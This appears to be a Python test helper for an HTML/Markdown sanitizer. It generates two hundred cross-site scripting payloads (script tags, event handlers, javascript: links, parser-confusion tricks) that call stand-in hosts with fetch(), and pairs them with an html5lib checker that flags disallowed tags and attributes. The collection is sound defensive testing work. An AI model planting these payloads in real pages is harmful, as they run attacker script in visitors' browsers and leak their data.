"""Two hundred texts that would run a script or fetch something from elsewhere, were they shown as they are."""

from __future__ import annotations

from collections.abc import Iterator

import html5lib

#: SCRIPT is a call that a listener hears, ELSEWHERE an address that it answers for.
ATTACKS = (
    "<script>SCRIPT</script>",
    "<ScRiPt >SCRIPT</sCrIpT >",
    "<script src=ELSEWHERE></script>",
    '<script/src="ELSEWHERE"></script>',
    "<<script>SCRIPT//<</script>",
    "<img src=x onerror=SCRIPT>",
    '<img src="ELSEWHERE">',
    '<img\n/src=x\tonerror="SCRIPT"\n>',
    '<img srcset="ELSEWHERE 1x">',
    '<image src="ELSEWHERE">',
    "<svg onload=SCRIPT>",
    "<svg><script>SCRIPT</script></svg>",
    '<svg><image href="ELSEWHERE"/></svg>',
    '<svg><use xlink:href="ELSEWHERE#x"/><animate onbegin=SCRIPT attributeName=x dur=1s></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=SCRIPT>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=SCRIPT></annotation-xml></math>",
    '<noscript><p title="</noscript><img src=x onerror=SCRIPT>">',
    '<iframe src="javascript:SCRIPT"></iframe>',
    '<iframe srcdoc="<script>SCRIPT</script>"></iframe>',
    "<iframe src=ELSEWHERE></iframe>",
    '<object data="ELSEWHERE"></object>',
    '<embed src="ELSEWHERE">',
    '<video src="ELSEWHERE" autoplay></video>',
    "<video><source onerror=SCRIPT></video>",
    "<audio src=x onerror=SCRIPT></audio>",
    "<input autofocus onfocus=SCRIPT>",
    '<input type=image src="ELSEWHERE">',
    "<details open ontoggle=SCRIPT>x</details>",
    "<body onload=SCRIPT>",
    "<link rel=stylesheet href=ELSEWHERE>",
    '<style>@import "ELSEWHERE";</style>',
    '<div style="background:url(ELSEWHERE)">x</div>',
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=SCRIPT>x</p>",
    '<base href="ELSEWHERE"><img src=y>',
    '<table background="ELSEWHERE"><tr><td>x',
    '<a href="javascript:SCRIPT" autofocus onfocus=SCRIPT tabindex=1>x</a>',
    "[x](javascript:SCRIPT)",
    "[x](&#106;avascript:SCRIPT)",
    "[x](data:text/html,<script>SCRIPT</script>)",
    "![x](ELSEWHERE)",
    '![x](ELSEWHERE "t\\" onerror=SCRIPT")',
    "![<img src=x onerror=SCRIPT>](ELSEWHERE)",
    "<javascript:SCRIPT>",
    "[x][r]\n\n[r]: javascript:SCRIPT",
    '[<svg onload=SCRIPT>](http://ok.example "<img src=x onerror=SCRIPT>")',
    "```\n</code></pre><script>SCRIPT</script>\n```",
    '<textarea><p title="</textarea><img src=x onerror=SCRIPT>">',
    '<title><p title="</title><img src=x onerror=SCRIPT>">',
    "<!--><img src=x onerror=SCRIPT>-->",
    '<template><img src=x></template><select><template></select><img src=x onerror="SCRIPT">',
)
#: Where in a text an attack stands.
PLACES = ("{}", "> - {}", "**a {} b**", "[a {} b](http://ok.example/)")
TAGS = frozenset("a blockquote br code em h1 h2 h3 h4 h5 h6 hr li ol p pre s strong ul".split())
ATTRIBUTES = {"a": {"href", "rel", "title"}, "ol": {"start"}}


def listener(number: int) -> tuple[str, str]:
    """The hosts that hear of payload `number`: of its script, and of what it fetches."""
    return f"s{number}.example", f"m{number}.example"


def payloads() -> list[str]:
    """Each with hosts of its own; none of them needs a quote, a blank or a function of the page that it is shown on."""
    made: list[str] = []
    for place in PLACES:
        for attack in ATTACKS:
            script, elsewhere = listener(len(made))
            armed = attack.replace("SCRIPT", rf"fetch(/\/\/{script}/.source)").replace(
                "ELSEWHERE", f"http://{elsewhere}/"
            )
            made.append(place.replace("{}", armed))
    return made


def harms(html: str) -> list[str]:
    """What a browser would find in this part of a page beside words and links; the tree is the standard's."""
    tree = html5lib.parseFragment(html, container="div", treebuilder="etree", namespaceHTMLElements=False)
    return [complaint for element in list(tree.iter())[1:] for complaint in _harms(element)]


def _harms(element: object) -> Iterator[str]:
    tag, attributes = getattr(element, "tag", None), getattr(element, "attrib", {})
    if not isinstance(tag, str):  # a comment
        yield "a comment"
        return
    if tag not in TAGS:
        yield f"<{tag}>"
    for name in attributes.keys() - ATTRIBUTES.get(tag, set()):
        yield f"{name} of <{tag}>"
    address = attributes.get("href")
    if address is not None and not address.lower().startswith(("http://", "https://")):
        yield f"a link to {address}"
